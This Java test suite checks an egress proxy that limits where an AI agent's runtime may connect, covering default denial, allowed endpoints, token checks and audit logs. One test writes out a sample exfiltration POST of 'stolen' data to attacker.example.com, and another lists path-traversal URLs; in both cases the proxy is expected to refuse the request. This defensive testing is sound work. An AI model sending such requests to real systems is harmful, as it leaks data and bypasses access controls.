// SPDX-License-Identifier: Apache-2.0
package dev.tollgate.scenarios.egress;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tollgate.scenarios.harness.Ask;
import dev.tollgate.scenarios.harness.Commands;
import dev.tollgate.scenarios.harness.LogEntries;
import dev.tollgate.terms.testing.Requirement;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/// What an agent's runtime reaches through the proxy, and what it does not.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EgressTest {
    private static final String LOOT = "loot-of-record-7731";

    private final Ground ground;

    EgressTest(@TempDir Path folder) throws IOException {
        ground = Ground.open(folder);
    }

    @AfterAll
    void close() {
        ground.close();
    }

    private String crm(String path) {
        return "https://crm.test:" + ground.crm().port() + path;
    }

    private String kb(String path) {
        return "http://kb.test:" + ground.kb().port() + path;
    }

    private static JsonNode last(List<JsonNode> entries) {
        return entries.getLast();
    }

    @Test
    @Requirement("S1-33")
    void a_post_to_an_attackers_host_stops_before_its_name_is_looked_up_and_is_logged_with_agent_and_task() {
        for (String url : List.of("https://attacker.example.com/collect", "http://attacker.example.com/collect")) {
            // Given
            int before = ground.entries("decision").size();

            // When
            Curl.Ended ended = ground.curl().run("-X", "POST", "--data", "stolen=" + LOOT, url);

            // Then
            assertThat(Math.max(ended.status(), ended.connect()))
                    .as(ended.text())
                    .isEqualTo(403);
            assertThat(ground.names().asked()).noneMatch(name -> name.contains("attacker"));
            assertThat(ground.entries("decision")).hasSize(before + 1);
            JsonNode denied = last(ground.entries("decision"));
            assertThat(denied.at("/caller/agent").asString("")).isEqualTo(Ground.AGENT);
            assertThat(denied.at("/caller/task").asString("")).isEqualTo("task-1");
            assertThat(denied.at("/ruling/outcome").asString("")).isEqualTo("deny");
            assertThat(denied.at("/ruling/rules/0").asString("")).isEqualTo("default-deny");
        }
        assertThat(String.join("\n", ground.crm().got())).doesNotContain(LOOT);
        assertThat(String.join("\n", ground.kb().got())).doesNotContain(LOOT);
        assertThat(String.join("\n", LogEntries.of(ground.gateway()).texts())).doesNotContain(LOOT);
    }

    @Test
    @Requirement("S1-32")
    void the_endpoint_that_the_zone_names_is_reached_in_the_clear_by_its_methods_and_paths_and_no_others() {
        // When
        Curl.Ended read = ground.curl().run(kb("/articles/7?q=delivery"));
        Curl.Ended written = ground.curl().run("--data", "text=found", kb("/articles"));
        List<Curl.Ended> others = List.of(
                ground.curl().run(kb("/admin")),
                ground.curl().run(kb("/articlesandmore")),
                ground.curl().run("--path-as-is", kb("/articles/../admin")),
                ground.curl().run(kb("/articles/%2e%2e/admin")),
                ground.curl().run(kb("/articles/..%2fadmin")),
                ground.curl().run("-X", "DELETE", kb("/articles/7")),
                ground.curl().run("http://kb.test:" + ground.crm().port() + "/articles/7"),
                ground.curl().run("http://127.0.0.1:" + ground.kb().port() + "/articles/7"));

        // Then
        assertThat(read.status()).as(read.text()).isEqualTo(200);
        assertThat(read.text()).contains("this is the knowledge base");
        assertThat(written.status()).as(written.text()).isEqualTo(200);
        assertThat(others)
                .allSatisfy(ended -> assertThat(ended.status()).as(ended.text()).isIn(400, 403));
        assertThat(ground.kb().got()).hasSize(2);
        assertThat(ground.kb().got().getFirst()).startsWith("GET /articles/7?q=delivery\n");
        assertThat(ground.kb().got().getLast()).endsWith("text=found");
        assertThat(String.join("\n", ground.kb().got()))
                .doesNotContainIgnoringCase("proxy-authorization")
                .doesNotContain(ground.token());
    }

    @Test
    @Requirement("S1-32")
    void a_tunnel_goes_to_the_endpoint_of_the_zone_and_its_bytes_are_counted_in_the_log() {
        // When
        Curl.Ended ended = ground.curl().run("-k", "--data", "question", crm("/v2/contacts"));

        // Then
        assertThat(ended.status()).as(ended.text()).isEqualTo(200);
        assertThat(ended.text()).contains("this is the crm");
        assertThat(ground.crm().got()).anyMatch(one -> one.endsWith("question"));
        JsonNode decision = ground.entries("decision").stream()
                .filter(entry -> entry.at("/call/object").asString("").equals("crm-api"))
                .toList()
                .getLast();
        assertThat(decision.at("/ruling/rules/0").asString("")).isEqualTo("egress:crm-api");
        JsonNode outcome = Until.found(() -> ground.entries("outcome").stream()
                .filter(entry -> entry.path("request").equals(decision.at("/call/request"))
                        || entry.path("request").equals(decision.path("request")))
                .findFirst());
        assertThat(outcome.at("/traffic/sent").asLong(0)).isGreaterThan(300);
        assertThat(outcome.at("/traffic/received").asLong(0)).isGreaterThan(300);
        assertThat(outcome.path("result").asString("")).isEqualTo("released");
    }

    @Test
    @Requirement("S1-32")
    void what_another_zone_reaches_is_out_of_this_ones_reach() {
        // When
        Curl.Ended ended =
                ground.curl().run("-k", "https://warehouse.test:" + ground.crm().port() + "/");

        // Then
        assertThat(ended.connect()).as(ended.text()).isEqualTo(403);
        assertThat(ground.names().asked()).doesNotContain("warehouse.test");
    }

    @Test
    @Requirement("S1-32")
    void nobody_goes_out_without_a_token_and_nothing_is_looked_up_for_them() {
        // Given
        int asked = ground.names().asked().size();
        String other = ground.gateway().bearer(Ask.as("nobody", "alice", "prepare-sales-call"));
        String token = ground.token();
        String forged = token.substring(0, token.length() - 6) + "AAAAAA";

        for (String presented : List.of("", "guessed", forged, other)) {
            // When
            Curl curl = Curl.through(ground.gateway().egressPort(), presented);
            Curl.Ended tunnel = curl.run("-k", crm("/"));
            Curl.Ended plain = curl.run(kb("/articles/7"));

            // Then
            assertThat(tunnel.connect()).as(tunnel.text()).isEqualTo(407);
            assertThat(plain.status()).as(plain.text()).isEqualTo(407);
        }
        assertThat(ground.names().asked()).hasSize(asked);
        assertThat(ground.entries("refused"))
                .anyMatch(entry -> entry.path("result").asString("").equals("unauthenticated"));
    }

    @Test
    void a_bearer_header_is_taken_as_the_password_of_a_basic_one_is() {
        // When
        Curl.Ended ended = Curl.through(ground.gateway().egressPort(), "")
                .run("--proxy-header", "Proxy-Authorization: Bearer " + ground.token(), "-k", crm("/"));

        // Then
        assertThat(ended.status()).as(ended.text()).isEqualTo(200);
    }

    @Test
    void the_log_of_all_this_is_sound() {
        // Given
        ground.curl().run("-k", crm("/"));
        ground.curl().run("http://attacker.example.com/");
        Until.found(() -> Optional.of(ground.entries("outcome").size())
                .filter(outcomes -> outcomes
                        == ground.entries("decision").stream()
                                .filter(entry ->
                                        entry.at("/ruling/outcome").asString("").equals("permit"))
                                .count()));

        // When
        Commands.Result verified = new Commands(ground.gateway().data()).run("audit", "verify");

        // Then
        assertThat(verified.code()).as(verified.out() + verified.err()).isZero();
    }
}
